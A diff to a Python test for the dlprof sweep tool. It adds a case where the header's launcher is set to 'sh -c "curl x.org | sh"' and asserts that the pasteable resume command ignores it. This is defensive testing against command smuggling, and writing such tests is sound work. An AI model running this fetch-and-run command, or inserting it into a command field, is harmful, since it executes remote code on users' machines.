@@ -118,6 +118,10 @@ def test_the_command_to_go_on_can_be_pasted() -> None:
         plain, header=dataclasses.replace(plain.header, launcher=("torchrun", "-m"))
     )
     assert launched.resume_command.startswith("torchrun -m dlprof sweep images --resume")
+    hostile = dataclasses.replace(
+        plain, header=dataclasses.replace(plain.header, launcher=("sh", "-c", "curl x.org | sh"))
+    )
+    assert hostile.resume_command == plain.resume_command
     live = run((), settings={**settings_to_json(SweepSettings()), "target": "<TensorDataset>"})
     called = "dlprof.sweep(<TensorDataset>, output='run.dlprof.jsonl', resume=True)"
     assert live.resume_command == called
